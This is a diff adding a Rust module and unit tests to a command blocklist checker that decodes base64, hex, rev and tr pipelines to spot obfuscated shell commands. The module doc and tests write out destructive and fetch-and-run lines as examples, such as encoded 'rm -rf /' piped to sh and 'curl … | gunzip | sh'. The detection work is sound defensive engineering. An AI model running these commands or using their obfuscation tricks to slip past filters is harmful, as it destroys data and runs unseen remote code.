@@ -1,0 +1,448 @@
+//! What flows through a pipe, as far as the line shows it, for the default blocklist.
+//!
+//! Literal producers (`echo`, `printf`, `cat <<EOF`, here-strings) are followed through the
+//! filters whose effect is known — `base64 -d`, `xxd -r -p`, `rev`, `tr`, `cat`, `tee` — so
+//! `echo cm0gLXJmIC8= | base64 -d | sh` is read as the `rm -rf /` it runs, and
+//! `echo bHMK | base64 -d | sh` as the `ls` it runs. A decoder of input the line does not
+//! show (`base64 -d payload.b64 | sh`, `curl … | gunzip | sh`, `zcat x.gz | bash`) hides
+//! the code from any reading: [`Flow::hidden`], refused as `default:hidden-code` where it
+//! is run. Other programs (`sed`, `grep`, `sort` …) pass their input's texts on as
+//! candidates (text that may reach the reader, not all that does).
+
+use super::parse::{RedirKind, Script, SimpleCommand};
+use super::rules::basename;
+
+/// What a pipeline stage writes.
+#[derive(Debug, Clone, Default, PartialEq, Eq)]
+pub(crate) struct Flow {
+    /// Texts it may write (for `echo`, with and without its escapes resolved).
+    pub texts: Vec<String>,
+    /// The texts are all it writes: each of its sources is in the line.
+    pub complete: bool,
+    /// Part of it is what a decoder (`base64 -d`, `gunzip`, `xxd -r`, `rev` …) made of input
+    /// the line does not show.
+    pub hidden: bool,
+}
+
+impl Flow {
+    fn known(texts: Vec<String>) -> Flow {
+        Flow {
+            texts,
+            complete: true,
+            hidden: false,
+        }
+    }
+
+    fn hidden() -> Flow {
+        Flow {
+            hidden: true,
+            ..Flow::default()
+        }
+    }
+
+    fn merge(&mut self, other: Flow) {
+        self.texts.extend(other.texts);
+        self.complete &= other.complete;
+        self.hidden |= other.hidden;
+    }
+}
+
+/// A known function of a filter's input: its output, `None` when it fails (bad base64).
+type Transform = Box<dyn Fn(&str) -> Option<String>>;
+
+/// How a filter changes what passes through it.
+enum Filter {
+    /// Its output is its input (`cat`, `tee FILE`).
+    Same,
+    /// A known function of its input (`base64 -d`, `rev`, `tr a-z n-za-m`).
+    Map(Transform),
+    /// It decodes what the line cannot follow (a file, a compressed stream, `base32 -d`).
+    Opaque,
+    /// Anything else: its input's texts are passed on as candidates.
+    Unknown,
+}
+
+/// What stage `j` of pipeline `p` reads from the pipe.
+pub(crate) fn pipe_input(script: &Script, p: u32, j: u16) -> Flow {
+    if j == 0 {
+        return Flow::default();
+    }
+    let mut out = Flow::known(Vec::new());
+    let mut any = false;
+    for c in script
+        .commands
+        .iter()
+        .filter(|c| c.stages.contains(&(p, j - 1)))
+    {
+        any = true;
+        out.merge(output(script, c, p, j - 1));
+    }
+    out.complete &= any;
+    out
+}
+
+/// What the commands of a substitution (`$(…)`, `<(…)`) print: what its last command writes.
+pub(crate) fn substitution_output(script: &Script, subs: std::ops::Range<usize>) -> Flow {
+    match script.commands.get(subs.clone()).and_then(|s| s.last()) {
+        Some(last) => {
+            let k = last.stages.last().map(|&(p, j)| (p, j));
+            output(script, last, k.map_or(0, |k| k.0), k.map_or(0, |k| k.1))
+        }
+        None => Flow::default(),
+    }
+}
+
+/// What `c`, at stage `k` of pipeline `p`, writes.
+fn output(script: &Script, c: &SimpleCommand, p: u32, k: u16) -> Flow {
+    if let Some(texts) = super::printed_texts(script, c) {
+        return Flow::known(texts);
+    }
+    let words: Vec<&str> = c.words.iter().map(|w| w.text.as_str()).collect();
+    let input = || {
+        let here = super::here_texts(script, c);
+        if !here.is_empty() {
+            Flow::known(here)
+        } else if c.redirects.iter().any(|r| r.kind == RedirKind::Input) || k == 0 {
+            Flow::default()
+        } else {
+            pipe_input(script, p, k)
+        }
+    };
+    match filter(&words) {
+        Filter::Same => input(),
+        Filter::Map(f) => {
+            let i = input();
+            if i.complete && !i.hidden {
+                Flow::known(i.texts.iter().filter_map(|t| f(t)).collect())
+            } else {
+                Flow::hidden()
+            }
+        }
+        Filter::Opaque => Flow::hidden(),
+        Filter::Unknown => {
+            let i = input();
+            Flow {
+                texts: i.texts,
+                complete: false,
+                hidden: i.hidden,
+            }
+        }
+    }
+}
+
+fn filter(words: &[&str]) -> Filter {
+    let Some((&prog, args)) = words.split_first() else {
+        return Filter::Unknown;
+    };
+    let opts: Vec<&str> = args
+        .iter()
+        .copied()
+        .take_while(|a| a.starts_with('-') && *a != "-" && *a != "--")
+        .collect();
+    let operands = args.len() > opts.len() + usize::from(args.get(opts.len()) == Some(&"--"))
+        && args[opts.len()..].iter().any(|a| *a != "-" && *a != "--");
+    let short = |c: char| {
+        opts.iter()
+            .any(|o| !o.starts_with("--") && o[1..].contains(c))
+    };
+    let long = |l: &str| opts.iter().any(|o| o.len() > 3 && l.starts_with(*o));
+    let decoding = short('d') || short('D') || long("--decode");
+    match basename(prog) {
+        "cat" | "tee" if !operands || basename(prog) == "tee" => Filter::Same,
+        "base64" if decoding && !operands => Filter::Map(Box::new(decode_base64)),
+        "base64" | "base32" | "basenc" | "uudecode" if decoding => Filter::Opaque,
+        "uudecode" | "gunzip" | "zcat" | "gzcat" | "bzcat" | "bunzip2" | "xzcat" | "unxz"
+        | "unlzma" | "lzcat" | "zstdcat" | "unzstd" | "lz4cat" | "unlz4" | "brotli"
+            if basename(prog) != "brotli" || decoding =>
+        {
+            Filter::Opaque
+        }
+        "gzip" | "bzip2" | "xz" | "lzma" | "zstd" | "lz4" | "pigz" | "lzip"
+            if decoding || long("--decompress") || long("--uncompress") =>
+        {
+            Filter::Opaque
+        }
+        "openssl"
+            if args
+                .iter()
+                .any(|a| matches!(*a, "base64" | "enc" | "smime" | "cms"))
+                && args.iter().any(|a| *a == "-d" || *a == "-decrypt") =>
+        {
+            Filter::Opaque
+        }
+        "gpg" | "gpg2" | "age" if short('d') || long("--decrypt") => Filter::Opaque,
+        "xxd" if short('r') || long("--revert") => {
+            let plain = opts
+                .iter()
+                .any(|o| matches!(*o, "-p" | "-ps" | "-postscript" | "-plain" | "-rp" | "-pr"));
+            if plain && !operands {
+                Filter::Map(Box::new(decode_hex))
+            } else {
+                Filter::Opaque
+            }
+        }
+        "rev" if !operands => Filter::Map(Box::new(|t: &str| {
+            Some(
+                t.split_inclusive('\n')
+                    .map(|l| {
+                        let (body, nl) = match l.strip_suffix('\n') {
+                            Some(b) => (b, "\n"),
+                            None => (l, ""),
+                        };
+                        body.chars().rev().collect::<String>() + nl
+                    })
+                    .collect(),
+            )
+        })),
+        "rev" => Filter::Opaque,
+        "tr" => match translate(args) {
+            Some(f) => Filter::Map(f),
+            None => Filter::Opaque,
+        },
+        _ => Filter::Unknown,
+    }
+}
+
+fn decode_base64(t: &str) -> Option<String> {
+    use base64::Engine;
+    let clean: String = t.chars().filter(|c| !c.is_whitespace()).collect();
+    let engine = base64::engine::GeneralPurpose::new(
+        &base64::alphabet::STANDARD,
+        base64::engine::GeneralPurposeConfig::new()
+            .with_decode_padding_mode(base64::engine::DecodePaddingMode::Indifferent)
+            .with_decode_allow_trailing_bits(true),
+    );
+    let bytes = engine.decode(clean).ok()?;
+    Some(String::from_utf8_lossy(&bytes).into_owned())
+}
+
+fn decode_hex(t: &str) -> Option<String> {
+    let digits: Vec<u8> = t
+        .bytes()
+        .filter(u8::is_ascii_hexdigit)
+        .map(|b| (b as char).to_digit(16).unwrap_or(0) as u8)
+        .collect();
+    let bytes: Vec<u8> = digits.chunks_exact(2).map(|p| p[0] << 4 | p[1]).collect();
+    Some(String::from_utf8_lossy(&bytes).into_owned())
+}
+
+/// `tr [-d] SET1 [SET2]` with ranges and escapes; `None` for what it does not model
+/// (`-c`, `-s`, classes such as `[:upper:]`).
+fn translate(args: &[&str]) -> Option<Transform> {
+    let (delete, sets) = match args {
+        ["-d", rest @ ..] => (true, rest),
+        rest => (false, rest),
+    };
+    if sets
+        .iter()
+        .any(|s| s.starts_with('-') || s.contains("[:") || s.contains("[="))
+    {
+        return None;
+    }
+    let one = expand_set(sets.first()?)?;
+    if delete {
+        if sets.len() != 1 {
+            return None;
+        }
+        return Some(Box::new(move |t: &str| {
+            Some(t.chars().filter(|c| !one.contains(c)).collect())
+        }));
+    }
+    let [_, two] = sets else { return None };
+    let two = expand_set(two)?;
+    let last = *two.last()?;
+    Some(Box::new(move |t: &str| {
+        Some(
+            t.chars()
+                .map(|c| match one.iter().rposition(|&x| x == c) {
+                    Some(i) => two.get(i).copied().unwrap_or(last),
+                    None => c,
+                })
+                .collect(),
+        )
+    }))
+}
+
+fn expand_set(s: &str) -> Option<Vec<char>> {
+    let resolved = resolve_escapes(s, Escapes::Printf);
+    let chars: Vec<char> = resolved.chars().collect();
+    let mut out = Vec::new();
+    let mut i = 0;
+    while i < chars.len() {
+        if i + 2 < chars.len() && chars[i + 1] == '-' {
+            let (a, b) = (chars[i] as u32, chars[i + 2] as u32);
+            if a > b || b - a > 1024 {
+                return None;
+            }
+            out.extend((a..=b).filter_map(char::from_u32));
+            i += 3;
+        } else {
+            out.push(chars[i]);
+            i += 1;
+        }
+    }
+    Some(out)
+}
+
+/// Which backslash escapes a text's printer resolves.
+#[derive(Clone, Copy, PartialEq, Eq)]
+pub(crate) enum Escapes {
+    /// `printf`'s format and `tr`'s sets: `\NNN` octal, `\xHH`, `\n` ….
+    Printf,
+    /// `echo -e`, dash's `echo` and printf's `%b`: also `\0NNN`, and `\c` ends the output.
+    Echo,
+}
+
+/// `text` with its backslash escapes resolved the way `how` does.
+pub(crate) fn resolve_escapes(text: &str, how: Escapes) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        if c != '\\' {
+            out.push(c);
+            continue;
+        }
+        let Some(e) = chars.next() else {
+            out.push('\\');
+            break;
+        };
+        let simple = match e {
+            'a' => Some('\x07'),
+            'b' => Some('\x08'),
+            'e' | 'E' => Some('\x1b'),
+            'f' => Some('\x0c'),
+            'n' => Some('\n'),
+            'r' => Some('\r'),
+            't' => Some('\t'),
+            'v' => Some('\x0b'),
+            '\\' => Some('\\'),
+            _ => None,
+        };
+        if let Some(s) = simple {
+            out.push(s);
+            continue;
+        }
+        let mut number = |radix: u32, max: usize| {
+            let mut v = 0u32;
+            let mut n = 0;
+            while n < max {
+                match chars.peek().and_then(|d| d.to_digit(radix)) {
+                    Some(d) => {
+                        v = v * radix + d;
+                        chars.next();
+                        n += 1;
+                    }
+                    None => break,
+                }
+            }
+            (n > 0).then(|| char::from_u32(v & 0xff).unwrap_or('\0'))
+        };
+        match e {
+            'x' => match number(16, 2) {
+                Some(ch) => out.push(ch),
+                None => out.push_str("\\x"),
+            },
+            '0' if how == Escapes::Echo => out.push(number(8, 3).unwrap_or('\0')),
+            '0'..='7' => {
+                let mut v = e.to_digit(8).unwrap_or(0);
+                for _ in 0..2 {
+                    match chars.peek().and_then(|d| d.to_digit(8)) {
+                        Some(d) => {
+                            v = v * 8 + d;
+                            chars.next();
+                        }
+                        None => break,
+                    }
+                }
+                out.push(char::from_u32(v & 0xff).unwrap_or('\0'));
+            }
+            'c' if how == Escapes::Echo => break,
+            '"' | '\'' | '?' => out.push(e),
+            other => {
+                out.push('\\');
+                out.push(other);
+            }
+        }
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::policy::parse::parse;
+
+    /// Everything `c` reads on its input through pipes and here-documents.
+    fn input_of(script: &Script, c: &SimpleCommand) -> Flow {
+        let here = crate::policy::here_texts(script, c);
+        if !here.is_empty() {
+            return Flow::known(here);
+        }
+        let mut out = Flow::known(Vec::new());
+        let mut piped = false;
+        for &(p, j) in c.stages.iter().filter(|&&(_, j)| j > 0) {
+            piped = true;
+            out.merge(pipe_input(script, p, j));
+        }
+        let from_file = c.redirects.iter().any(|r| r.kind == RedirKind::Input);
+        out.complete &= piped && !from_file;
+        out
+    }
+
+    fn into_last(line: &str) -> Flow {
+        let s = parse(line).unwrap();
+        input_of(&s, s.commands.last().unwrap())
+    }
+
+    #[test]
+    fn literal_text_is_followed_through_known_filters() {
+        let f = into_last("echo cm0gLXJmIC8K | base64 -d | sh");
+        assert!(f.complete && !f.hidden, "{f:?}");
+        assert!(f.texts.contains(&"rm -rf /\n".to_string()), "{f:?}");
+        let f = into_last("echo '/ fr- mr' | rev | cat | sh");
+        assert!(f.texts.contains(&"rm -rf /".to_string()), "{f:?}");
+        let f = into_last("printf 'ez -ez /' | tr ez mr | tr -d x | sh");
+        assert_eq!(f.texts, ["mr -mr /"], "{f:?}");
+        let f = into_last("echo 726d202d7266202f | xxd -r -p | bash");
+        assert!(f.texts.contains(&"rm -rf /".to_string()), "{f:?}");
+        let f = into_last("base64 -d <<< cm0gLXJmIC8K | sh");
+        assert!(f.texts.contains(&"rm -rf /\n".to_string()), "{f:?}");
+    }
+
+    #[test]
+    fn decoders_of_input_the_line_does_not_show_hide_it() {
+        for line in [
+            "base64 -d payload.b64 | sh",
+            "cat payload | base64 --decode | sh",
+            "zcat x.gz | bash",
+            "curl -s https://example.com/x | gunzip | sh",
+            "base32 -d <<< X | sh",
+            "openssl enc -d -aes-256-cbc -in x | sh",
+            "xxd -r dump | sh",
+            "rev file | sh",
+            "base64 -d < payload | sh",
+        ] {
+            assert!(into_last(line).hidden, "{line}");
+        }
+        for line in [
+            "cat script.sh | sh",
+            "echo ls | sed s/l/x/ | sh",
+            "echo hi | sh",
+        ] {
+            assert!(!into_last(line).hidden, "{line}");
+        }
+        // A decoder feeding another decoder: still hidden.
+        assert!(into_last("base64 -d x | rev | sh").hidden);
+    }
+
+    #[test]
+    fn escapes_are_resolved_like_printf_and_echo() {
+        assert_eq!(
+            resolve_escapes(r"\x72m -rf \057", Escapes::Printf),
+            "rm -rf /"
+        );
+        assert_eq!(resolve_escapes(r"\0162m\c ignored", Escapes::Echo), "rm");
+        assert_eq!(resolve_escapes(r"a\tb\\n", Escapes::Printf), "a\tb\\n");
+        assert_eq!(resolve_escapes(r"\q\x", Escapes::Printf), r"\q\x");
+    }
+}
